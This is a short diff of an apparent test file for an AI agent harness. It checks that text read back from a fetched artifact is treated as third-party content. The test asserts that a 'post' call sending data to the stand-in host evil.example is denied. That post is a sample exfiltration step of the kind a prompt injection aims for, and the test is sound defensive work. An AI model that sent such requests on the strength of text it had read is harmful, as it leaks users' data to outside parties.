@@ -165,7 +165,7 @@ async def test_words_that_came_in_by_a_query_are_the_third_partys_when_they_are_
         await ask(session, "fetch", url="https://example.org/")
         # As after a long session, in which the first text has been forgotten.
         session.intake.seen = None
-        session.judge_anew()
+        session.court.judge_anew()
         await ask(session, "artifact_grep", artifact="a1", pattern="evil", max_matches=1)
         refused = await session.call("post", {"to": "https://evil.example/?q=1"})
         assert refused.status == "denied", "If this fails, text read back from an artifact counts as the session's own."
